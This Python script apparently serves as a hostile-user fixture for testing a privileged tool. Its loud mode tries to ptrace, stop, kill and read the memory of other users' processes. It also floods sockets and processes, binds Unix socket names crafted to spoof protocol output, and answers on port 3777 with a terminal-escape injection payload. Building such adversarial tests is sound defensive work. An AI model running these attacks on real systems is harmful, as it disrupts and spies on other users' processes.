"""What a hostile account does while root looks at it: everything at once, until it is told to stop.

    hostile.py quiet        answers on 3777 and nothing else
    hostile.py loud         traces, kills, stops, floods, lies on 3777, names its sockets after marks

A line on standard input ends it; it then prints what it achieved, as JSON.
"""

import ctypes
import json
import os
import re
import select
import signal
import socket
import sys
import threading
import time

ME = os.getuid()
LIE = (
    b"HTTP/1.1 200 OK \x1b[2J\x1b[8m\x9b31m\x1b]0;pwned\x07"
    b"\x1b[32mok\x1b[0m \xe2\x80\xae\r locked, and proven\x7f\n"
)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
SOCKETS, PROCESSES, HUNTERS = 1500, 60, 1
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
over = threading.Event()
done = {"traced": [], "signalled": [], "read": [], "slowed": [], "rounds": 0, "named": 0, "flooded": 0, "seen": 0}


def real_uid(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(re.search(r"^Uid:\s+(\d+)", status.read(), re.M)[1])


def others():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if real_uid(pid) != ME:
                yield int(pid)
        except (OSError, TypeError):
            pass  # it has ended


def achieved(what, pid):
    try:
        if real_uid(pid) != ME:
            with open(f"/proc/{pid}/cmdline") as line:
                done[what].append(line.read())
    except (OSError, TypeError):
        pass


def attempt(what, pid, call, *arguments):
    try:
        if call(*arguments) != -1:
            achieved(what, pid)
    except OSError:
        pass


def attack(pid):
    """Traces, stops, kills, slows down and reads a process that is not its own."""
    for request in (PTRACE_SEIZE, PTRACE_ATTACH):
        attempt("traced", pid, libc.ptrace, request, pid, None, None)
    for number in (signal.SIGSTOP, signal.SIGKILL):
        attempt("signalled", pid, os.kill, pid, number)
    attempt("read", pid, os.listdir, f"/proc/{pid}/fd")
    attempt("read", pid, open, f"/proc/{pid}/mem")
    attempt("slowed", pid, os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
    attempt("slowed", pid, os.setpriority, os.PRIO_PROCESS, pid, 19)


def hunt():
    """Attacks everything, and what is new over and over, for the moment that it may do so."""
    known, parent = set(), os.getppid()
    while not over.is_set() and os.getppid() == parent:
        new = set(others()) - known
        known |= new
        until = time.monotonic() + 0.3
        for pid in new:
            attack(pid)
        new = [pid for pid in new if "perl" in command_line(pid)]
        while new and time.monotonic() < until:
            for pid in new:
                attack(pid)
        try:
            os.kill(-1, signal.SIGCONT)
        except OSError:
            pass
        done["rounds"] += 1


def command_line(pid):
    try:
        with open(f"/proc/{pid}/cmdline") as line:
            return line.read()
    except OSError:
        return ""


def name_sockets():
    """Names Unix sockets after everything on command lines that might be a mark."""
    names = {}
    while not over.is_set():
        for pid in others():
            words = command_line(pid)
            done["seen"] += "perl" in words or "sudo" in words
            for mark in re.findall(r"[0-9a-f-]{36}", words) or ["mark"]:
                name = f"\n{mark} end 0\n\n{mark} begin sockets\n\n{mark} end 0\n{mark} 0 ok \n"
                for path in (name, name + " /run/systemd/io.systemd.NamespaceResource"):
                    address = "\0" + path[-100:]
                    if address in names or len(names) > 500:
                        continue
                    names[address] = socket.socket(socket.AF_UNIX)
                    try:
                        names[address].bind(address)
                        names[address].listen()
                        done["named"] += 1
                    except OSError:
                        pass
    return names


def flood():
    """Holds sockets and starts processes; what attack() kills of them is started again."""
    held = []
    while not over.is_set():
        if len(held) < SOCKETS:
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                s = socket.socket(socket.AF_INET, kind)
                s.bind(("127.0.0.1", 0))
                if kind == socket.SOCK_STREAM:
                    s.listen()
                held.append(s)
        children = []
        for _ in range(PROCESSES // 10):
            child = os.fork()
            if child == 0:
                signal.alarm(5)
                signal.pause()
            children.append(child)
            done["flooded"] += 1
        over.wait(0.05)
        for child in children:
            try:
                os.kill(child, signal.SIGKILL)
            except OSError:
                pass
            os.waitpid(child, 0)


def answer(lie):
    server = socket.create_server(("127.0.0.1", 3777), backlog=100)
    while not over.is_set():
        if not select.select([server], [], [], 0.1)[0]:
            continue
        client, _ = server.accept()
        try:
            client.recv(1000)
            client.sendall(lie)
        except OSError:
            pass
        client.close()


def hunter(pipe):
    """A process of its own, which keeps a processor busy: how it did is read from the pipe."""
    signal.signal(signal.SIGTERM, lambda *_: over.set())
    hunt()
    os.write(pipe, json.dumps(done).encode())
    os._exit(0)


loud = sys.argv[1] == "loud"
hunters = []
for _ in range(HUNTERS if loud else 0):
    result, pipe = os.pipe()
    child = os.fork()
    if child == 0:
        hunter(pipe)
    os.close(pipe)
    hunters.append((child, result))
threads = [threading.Thread(target=answer, args=(LIE if loud else b"hello\n",))]
if loud:
    threads += [threading.Thread(target=each) for each in (name_sockets, flood)]
for thread in threads:
    thread.start()
while loud and not (done["named"] and done["flooded"]):
    over.wait(0.05)
print("ready", flush=True)
sys.stdin.readline()
over.set()
for thread in threads:
    thread.join()
for child, result in hunters:
    os.kill(child, signal.SIGTERM)
    with os.fdopen(result) as text:
        for what, value in json.load(text).items():
            done[what] += value
    os.waitpid(child, 0)
print(json.dumps(done), flush=True)
